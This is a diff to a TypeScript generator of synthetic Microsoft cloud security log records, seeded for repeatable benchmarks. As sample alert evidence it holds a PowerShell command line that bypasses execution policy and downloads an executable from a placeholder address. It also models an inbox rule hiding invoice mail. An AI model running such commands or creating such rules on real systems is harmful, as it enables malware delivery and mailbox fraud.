@@ -1,13 +1,26 @@
 import { Random } from './random.ts'
 
 /**
- * W1: Entra sign-ins 25 %, Office 365 SharePoint 20 % and Exchange 13 %, directory audits 17 %, Graph alerts 10 % with two pieces of
- * evidence each, Azure activity 15 %. W2: sign-ins of about 12,000 bytes, the average that Microsoft publishes, with 38
+ * W1, by count: Entra sign-ins 25 %, Office 365 a third (SharePoint 20 %, Exchange 13 %), directory audits with JSON inside
+ * strings 17 %, Graph alerts with two pieces of evidence each 10 %, Azure activity 15 %. Records of 1,500 to 2,600 bytes, 40 %
+ * of them with a character beyond ASCII; written on one line, as the sources do. W2: sign-ins of about 12,000 bytes, the average that Microsoft publishes, with 38
  * conditional access policies each. Both are made from a fixed seed, so that every run measures the same bytes.
  */
 export const weights = { signIn: 25, sharePoint: 20, exchange: 13, audit: 17, alert: 10, activity: 15 } as const
 
-const cities = ['Zürich', 'São Paulo', 'Berlin', 'Paris', 'Kraków', 'Oslo', 'Madrid', 'Łódź'] as const
+const cities = [
+  'Zürich',
+  'São Paulo',
+  'Berlin',
+  'Paris',
+  'Kraków',
+  'Oslo',
+  'Madrid',
+  'Łódź',
+  'Lyon',
+  'Porto',
+  'Gent',
+] as const
 const names = ['ana.silva', 'jürgen.groß', 'm.kowalska', 'lee.wong', 'p.dubois', 'olga.ivanova'] as const
 const agents = [
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0',
@@ -62,15 +75,37 @@ function signIn(r: Random, policyCount = 1): object {
     riskLevelDuringSignIn: 'none',
     riskState: 'none',
     riskEventTypes_v2: [],
+    autonomousSystemNumber: 3303,
+    crossTenantAccessType: 'none',
+    incomingTokenType: 'none',
+    signInEventTypes: ['interactiveUser'],
+    uniqueTokenIdentifier: r.hex(22),
     resourceDisplayName: 'Office 365 Exchange Online',
     resourceId: r.guid(),
     resourceTenantId: tenant,
     homeTenantId: tenant,
     authenticationRequirement: 'multiFactorAuthentication',
     signInIdentifier: u.upn,
-    status: { errorCode: failed ? 50126 : 0, failureReason: failed ? 'Invalid username or password or Invalid on-premise username or password.' : 'Other.', additionalDetails: 'MFA requirement satisfied by claim in the token' },
-    deviceDetail: { deviceId: r.guid(), displayName: `DESKTOP-${r.hex(6)}`, operatingSystem: 'Windows 11', browser: 'Edge 126.0.0', isCompliant: true, isManaged: true, trustType: 'Azure AD joined' },
-    location: { city: r.pick(cities), state: 'Zürich', countryOrRegion: 'CH', geoCoordinates: { altitude: null, latitude: 47.36667, longitude: 8.55 } },
+    status: {
+      errorCode: failed ? 50126 : 0,
+      failureReason: failed ? 'Invalid username or password or Invalid on-premise username or password.' : 'Other.',
+      additionalDetails: 'MFA requirement satisfied by claim in the token',
+    },
+    deviceDetail: {
+      deviceId: r.guid(),
+      displayName: `DESKTOP-${r.hex(6)}`,
+      operatingSystem: 'Windows 11',
+      browser: 'Edge 126.0.0',
+      isCompliant: true,
+      isManaged: true,
+      trustType: 'Azure AD joined',
+    },
+    location: {
+      city: r.pick(cities),
+      state: r.pick(['Zürich', 'Berlin', 'Mazowieckie', 'Lisboa']),
+      countryOrRegion: 'CH',
+      geoCoordinates: { altitude: null, latitude: 47.36667, longitude: 8.55 },
+    },
     appliedConditionalAccessPolicies: policies(r, policyCount),
   }
 }
@@ -110,10 +145,23 @@ function sharePoint(r: Random): object {
     SiteUrl: `${site}/`,
     SourceFileName: file,
     SourceRelativeUrl: `Shared Documents/${r.pick(cities)}`,
-    AppAccessContext: { AADSessionId: r.guid(), ClientAppId: r.guid(), ClientAppName: 'OneDrive SyncEngine', CorrelationId: r.guid(), UniqueTokenId: r.hex(22) },
+    AppAccessContext: {
+      AADSessionId: r.guid(),
+      ClientAppId: r.guid(),
+      ClientAppName: 'OneDrive SyncEngine',
+      CorrelationId: r.guid(),
+      UniqueTokenId: r.hex(22),
+    },
     ApplicationDisplayName: 'Microsoft OneDrive Sync Engine',
+    BrowserName: 'Edge',
+    BrowserVersion: '126.0.0.0',
+    DoNotDistributeEvent: true,
+    FromApp: false,
     GeoLocation: 'EUR',
     IsManagedDevice: true,
+    ListBaseType: 1,
+    ListServerTemplate: 700,
+    Platform: 'WinDesktop',
     MachineDomainInfo: r.guid(),
     MachineId: r.guid(),
   }
@@ -135,8 +183,13 @@ function exchange(r: Random): object {
       { Name: 'MoveToFolder', Value: 'Archive' },
       { Name: 'SubjectContainsWords', Value: 'Rechnung; invoice; payment = due' },
       { Name: 'StopProcessingRules', Value: 'True' },
+      { Name: 'AlwaysDeleteOutlookRulesBlob', Value: 'False' },
+      { Name: 'Force', Value: 'False' },
     ],
+    AppAccessContext: { AADSessionId: r.guid(), IssuedAtTime: time(r).slice(0, 19), UniqueTokenId: r.hex(22) },
+    RequestId: r.guid(),
     SessionId: r.guid(),
+    TokenTenantId: tenant,
     DeviceId: r.guid(),
   }
 }
@@ -154,7 +207,18 @@ function audit(r: Random): object {
     activityDateTime: time(r),
     loggedByService: 'Core Directory',
     operationType: 'Update',
-    initiatedBy: { user: { id: u.id, displayName: u.name, userPrincipalName: u.upn, ipAddress: r.address(), userType: 'Member', homeTenantId: tenant, homeTenantName: 'Contoso' }, app: null },
+    initiatedBy: {
+      user: {
+        id: u.id,
+        displayName: u.name,
+        userPrincipalName: u.upn,
+        ipAddress: r.address(),
+        userType: 'Member',
+        homeTenantId: tenant,
+        homeTenantName: 'Contoso',
+      },
+      app: null,
+    },
     targetResources: [
       {
         id: target.id,
@@ -165,6 +229,11 @@ function audit(r: Random): object {
         modifiedProperties: [
           { displayName: 'StrongAuthenticationMethod', oldValue: '[]', newValue: '[{"MethodType":6,"Default":true}]' },
           { displayName: 'Included Updated Properties', oldValue: null, newValue: '"StrongAuthenticationMethod"' },
+          {
+            displayName: 'StrongAuthenticationPhoneAppDetail',
+            oldValue: '[]',
+            newValue: `[{"DeviceName":"iPhone","DeviceToken":"apns2-${r.hex(32)}","PhoneAppVersion":"6.8.15","AuthenticationType":3,"Id":"${r.guid()}"}]`,
+          },
           { displayName: 'TargetId.UserType', oldValue: null, newValue: '"Member"' },
         ],
       },
@@ -194,8 +263,10 @@ function alert(r: Random): object {
     detectorId: r.guid(),
     tenantId: tenant,
     title: 'Suspicious PowerShell command line',
-    description: 'A suspicious PowerShell activity was observed on the machine.\r\nThis behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.',
-    recommendedActions: '1. Examine the PowerShell command line to understand what commands were executed.\n2. Submit undetected files to the MMPC malware portal.',
+    description:
+      'A suspicious PowerShell activity was observed on the machine.\r\nThis behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.',
+    recommendedActions:
+      '1. Examine the PowerShell command line to understand what commands were executed.\n2. Submit undetected files to the MMPC malware portal.',
     category: 'Execution',
     assignedTo: null,
     alertWebUrl: `https://security.microsoft.com/alerts/da${r.below(1_000_000_000)}?tid=${tenant}`,
@@ -208,7 +279,21 @@ function alert(r: Random): object {
     lastActivityDateTime: at,
     comments: [],
     evidence: [
-      { '@odata.type': '#microsoft.graph.security.deviceEvidence', createdDateTime: at, verdict: 'unknown', remediationStatus: 'none', roles: ['attacked'], mdeDeviceId: r.hex(40), deviceDnsName: `${host}.contoso.example`, hostName: host, osPlatform: 'Windows11', version: '23H2', healthStatus: 'active', riskScore: 'high', lastIpAddress: '192.0.2.14' },
+      {
+        '@odata.type': '#microsoft.graph.security.deviceEvidence',
+        createdDateTime: at,
+        verdict: 'unknown',
+        remediationStatus: 'none',
+        roles: ['attacked'],
+        mdeDeviceId: r.hex(40),
+        deviceDnsName: `${host}.contoso.example`,
+        hostName: host,
+        osPlatform: 'Windows11',
+        version: '23H2',
+        healthStatus: 'active',
+        riskScore: 'high',
+        lastIpAddress: '192.0.2.14',
+      },
       {
         '@odata.type': '#microsoft.graph.security.processEvidence',
         createdDateTime: at,
@@ -217,7 +302,11 @@ function alert(r: Random): object {
         roles: [],
         processId: 4780 + r.below(100),
         processCommandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "$a = 'x'; Invoke-WebRequest -Uri http://203.0.113.7/${r.hex(6)} -OutFile C:\\Temp\\a.exe"`,
-        imageFile: { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', sha256: r.hex(64) },
+        imageFile: {
+          fileName: 'powershell.exe',
+          filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
+          sha256: r.hex(64),
+        },
         userAccount: { accountName: u.name, domainName: 'CONTOSO', userPrincipalName: u.upn, azureAdUserId: u.id },
       },
     ],
@@ -239,22 +328,57 @@ function activity(r: Random): object {
     callerIpAddress: r.address(),
     correlationId: r.guid(),
     identity: {
-      authorization: { scope: id, action: 'Microsoft.Compute/virtualMachines/write', evidence: { role: 'Contributor', roleAssignmentScope: `/subscriptions/${sub}`, roleAssignmentId: r.hex(32), roleDefinitionId: r.hex(32), principalId: r.hex(32), principalType: 'User' } },
-      claims: { aud: 'https://management.core.windows.net/', iss: `https://sts.windows.net/${tenant}/`, 'http://schemas.microsoft.com/identity/claims/objectidentifier': u.id, 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': u.upn, name: u.name, appid: r.guid(), ver: '1.0' },
+      authorization: {
+        scope: id,
+        action: 'Microsoft.Compute/virtualMachines/write',
+        evidence: {
+          role: 'Contributor',
+          roleAssignmentScope: `/subscriptions/${sub}`,
+          roleAssignmentId: r.hex(32),
+          roleDefinitionId: r.hex(32),
+          principalId: r.hex(32),
+          principalType: 'User',
+        },
+      },
+      claims: {
+        aud: 'https://management.core.windows.net/',
+        iss: `https://sts.windows.net/${tenant}/`,
+        'http://schemas.microsoft.com/identity/claims/objectidentifier': u.id,
+        'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': u.upn,
+        name: u.name,
+        appid: r.guid(),
+        ver: '1.0',
+      },
     },
     level: 'Information',
     location: 'global',
-    properties: { eventCategory: 'Administrative', entity: id, message: 'Microsoft.Compute/virtualMachines/write', hierarchy: `${tenant}/${sub}`, statusCode: 'Created', serviceRequestId: r.guid() },
+    properties: {
+      eventCategory: 'Administrative',
+      entity: id,
+      message: 'Microsoft.Compute/virtualMachines/write',
+      hierarchy: `${tenant}/${sub}`,
+      statusCode: 'Created',
+      serviceRequestId: r.guid(),
+    },
     tenantId: tenant,
   }
 }
 
-const makers: Readonly<Record<keyof typeof weights, (r: Random) => object>> = { signIn, sharePoint, exchange, audit, alert, activity }
+const makers: Readonly<Record<keyof typeof weights, (r: Random) => object>> = {
+  signIn,
+  sharePoint,
+  exchange,
+  audit,
+  alert,
+  activity,
+}
 
 /** W1 as lines. */
 export function mixed(count: number, seed = 20260601): Buffer[] {
   const r = new Random(seed)
-  const kinds = Object.entries(weights).flatMap(([kind, weight]) => Array<keyof typeof weights>(weight).fill(kind as keyof typeof weights))
+  const kinds = Object.entries(weights).flatMap(([kind, weight]) =>
+    Array<keyof typeof weights>(weight).fill(kind as keyof typeof weights),
+  )
   return Array.from({ length: count }, () => Buffer.from(JSON.stringify(makers[r.pick(kinds)](r))))
 }
 
